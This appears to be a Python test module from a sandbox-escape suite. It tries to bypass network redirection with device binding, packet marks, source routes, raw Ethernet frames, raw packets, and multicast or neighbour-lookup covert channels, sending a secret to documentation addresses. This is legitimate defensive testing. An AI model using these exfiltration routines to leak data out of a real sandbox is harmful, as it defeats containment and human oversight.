"""Lines 1 and 5 where the network has a device: ways round a redirection that decides by address, user and flow.

The sealed sandbox has no device to leave by, and makes the same attempts.
"""

import contextlib
import socket
import struct
from collections.abc import Callable
from functools import partial

from childproof.escape.table import AROUND, Closed, add, attempt
from childproof.escape.talk import SECRET, get, said, tried
from childproof.escape.ways import Way

BRIEF = 0.3  # seconds for an answer that need not come
_IP_OPTIONS, _IPV6_RTHDR = 4, 57
_SO_MARK = 36
_SOL_PACKET, _QDISC_BYPASS = 263, 20
# What counts is the sinkhole: the client can't tell, and no call is made that could be recorded.
UNSEEN = Closed(("",))


def device() -> str:
    """The device that leads out; `lo` where there is none."""
    return next((name for _, name in socket.if_nameindex() if name != "lo"), "lo")


def own_addresses() -> dict[int, str]:
    """One address of this network namespace for each family: what a packet to anywhere would come from."""
    found: dict[int, str] = {socket.AF_INET: "127.0.0.1", socket.AF_INET6: "::1"}
    for family, far in ((socket.AF_INET, "203.0.113.1"), (socket.AF_INET6, "2606:4700::1111")):
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.connect((far, 9))
            found[family] = sock.getsockname()[0]
    return found


# --- 1f: routes of a socket's own


def _bound(sock: socket.socket) -> None:
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device().encode() + b"\0")


def _marked(sock: socket.socket) -> None:
    sock.setsockopt(socket.SOL_SOCKET, _SO_MARK, 0x6368_0001)


def _source_route(sock: socket.socket) -> None:
    """Loose source and record route, by the gateway (RFC 791, section 3.1)."""
    sock.setsockopt(socket.IPPROTO_IP, _IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton("10.99.0.2") + b"\0")


def _source_route_home(sock: socket.socket) -> None:
    """By an address of this namespace's own."""
    home = socket.inet_aton(own_addresses()[socket.AF_INET])
    sock.setsockopt(socket.IPPROTO_IP, _IP_OPTIONS, b"\x83\x07\x04" + home + b"\0")


def _routing_header(sock: socket.socket) -> None:
    """A segment (RFC 8754) at an address of this namespace's own."""
    home = socket.inet_pton(socket.AF_INET6, own_addresses()[socket.AF_INET6])
    header = struct.pack("!8B", 0, 4, 4, 1, 1, 0, 0, 0) + bytes(16) + home
    sock.setsockopt(socket.IPPROTO_IPV6, _IPV6_RTHDR, header)


for _name, _family, _prepare, _place in (
    ("a_connection_bound_to_a_device", socket.AF_INET, _bound, "203.0.113.60"),
    ("a_connection_bound_to_a_device_over_ipv6", socket.AF_INET6, _bound, "2606:4700::60"),
    ("a_marked_connection", socket.AF_INET, _marked, "203.0.113.61"),
    ("a_connection_with_a_source_route", socket.AF_INET, _source_route, "203.0.113.62"),
    ("a_connection_with_a_source_route_back", socket.AF_INET, _source_route_home, "203.0.113.63"),
    ("a_connection_with_a_routing_header", socket.AF_INET6, _routing_header, "2606:4700::63"),
):

    def _connect(way: Way, family: int, prepare: Callable[[socket.socket], None], place: str) -> str:
        del way
        with socket.socket(family) as sock:
            sock.settimeout(BRIEF)
            prepare(sock)
            sock.connect((place, 80))
            return said(sock, get(f"[{place}]" if ":" in place else place))

    add(
        "1f",
        _name,
        partial(_connect, family=_family, prepare=_prepare, place=_place),
        direct=Closed(("HTTP/1.1 403", "TimeoutError", "PermissionError", "OSError", "ConnectionR")),
        proxied=AROUND,
    )

for _name, _family, _place in (
    ("a_datagram_bound_to_a_device", socket.AF_INET, "203.0.113.64"),
    ("a_datagram_bound_to_a_device_over_ipv6", socket.AF_INET6, "2606:4700::64"),
    ("a_query_bound_to_a_device", socket.AF_INET, "10.99.0.2"),
    ("loopback_by_a_device", socket.AF_INET, "127.0.0.1"),
    ("loopback_by_a_device_over_ipv6", socket.AF_INET6, "::1"),
    ("everybody_on_the_link", socket.AF_INET, "255.255.255.255"),
):

    def _send(way: Way, family: int, place: str, port: int) -> str:
        del way
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            _bound(sock)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.sendto(SECRET.encode(), (place, port))
        return "sent"

    _port = 53 if "query" in _name else 4464
    add("1f", _name, partial(_send, family=_family, place=_place, port=_port), direct=UNSEEN, proxied=AROUND)


# --- 5: what is below a socket's own protocol


NO_PACKETS = Closed(("PermissionError", "OSError: [Errno 97]"))


@attempt("5e", direct=NO_PACKETS, proxied=AROUND, capable=Closed(("sent",)))
def a_frame(way: Way) -> str:
    """A datagram in a frame of one's own making, and a frame of no protocol; past the device's queue too."""
    del way
    for bypass in (0, 1):
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
            sock.bind((device(), 0))
            sock.setsockopt(_SOL_PACKET, _QDISC_BYPASS, bypass)
            with contextlib.suppress(OSError):
                sock.send(frame("10.99.0.1", "203.0.113.65", 4465))
            with contextlib.suppress(OSError):
                sock.send(b"\xff" * 6 + bytes(6) + b"\x88\xb5" + SECRET.encode())  # an ethertype for experiments
    return "sent"


def frame(sender: str, receiver: str, port: int) -> bytes:
    """A datagram in IPv4 in Ethernet, to every card."""
    datagram = struct.pack("!4H", 4479, port, 8 + len(SECRET), 0) + SECRET.encode()
    fields = (0x45, 0, 20 + len(datagram), 1, 0, 64, 17)
    addresses = socket.inet_aton(sender) + socket.inet_aton(receiver)
    total = sum(struct.unpack("!10H", struct.pack("!BBHHHBBH", *fields, 0) + addresses))
    checksum = ~(total + (total >> 16)) & 0xFFFF
    header = struct.pack("!BBHHHBBH", *fields, checksum) + addresses
    return b"\xff" * 6 + bytes(6) + b"\x08\x00" + header + datagram


@attempt("5f", direct=Closed(("PermissionError", "OSError: [Errno 93]")), proxied=AROUND, capable=UNSEEN)
def a_raw_packet(way: Way) -> str:
    """Protocol 255 to anywhere, and an answer to nobody."""
    del way
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 6, 0, bytes(4), socket.inet_aton("203.0.113.66"))
    # RST and ACK, as of a connection that is over.
    segment = header + struct.pack("!HHIIBBHHH", 4466, 80, 1, 1, 0x50, 0x14, 0, 0, 0)
    sent = []
    for family, protocol, data, place in (
        (socket.AF_INET, 255, segment, "203.0.113.66"),
        (socket.AF_INET6, socket.IPPROTO_ICMPV6, bytes([129, 0, 0, 0]) + SECRET.encode(), "2606:4700::66"),
    ):
        with socket.socket(family, socket.SOCK_RAW, protocol) as sock:
            sent.append(tried(partial(sock.sendto, data, (place, 0))))
    return str(sent)


@attempt(
    "5c", direct=Closed(("PermissionError", "OSError: [Errno 113]"), "2606:4700::67", unless=("no",)), proxied=AROUND
)
def ping_over_ipv6(way: Way) -> str:
    """The same as ICMPv6."""
    del way
    try:
        sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
    except PermissionError:
        return "no such sockets for this group of users"
    with sock:
        sock.settimeout(BRIEF)
        sock.connect(("2606:4700::67", 0))
        sock.send(bytes([128, 0, 0, 0, 0, 0, 0, 0]))
        return sock.recv(10).hex()


@attempt("5h", direct=UNSEEN, proxied=AROUND)
def a_multicast_membership(way: Way) -> str:
    """A group's address says something, and the kernel reports it to the link (RFC 3376, RFC 3810)."""
    del way
    index = socket.if_nametoindex(device())
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        group = struct.pack("=4s4sI", socket.inet_aton("239.77.66.55"), bytes(4), index)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as other:
            for place in ("ff15::4d65:7373:6167:65", "ff02::4d65:7373"):
                group = socket.inet_pton(socket.AF_INET6, place) + struct.pack("=I", index)
                other.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group)
    return "joined"


@attempt("5h", direct=UNSEEN, proxied=AROUND)
def a_neighbours_address(way: Way) -> str:
    """The address of a machine on the link says something, and the kernel asks the link for it (RFC 826, RFC 4861)."""
    del way
    sent = 0
    for place in ("10.99.0.77", "fd00:99::4d65:7373:6167", f"fe80::4d65:7373:6167%{device()}"):
        target = socket.getaddrinfo(place, 4477)[0][4]
        for bind in (False, True):
            for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                with socket.socket(socket.AF_INET6 if ":" in place else socket.AF_INET, kind) as sock:
                    sock.setblocking(False)
                    if bind:
                        _bound(sock)
                    with contextlib.suppress(OSError):
                        sock.connect(target)
                    with contextlib.suppress(OSError):
                        sent += sock.send(b"?")
    return f"{sent} sent"
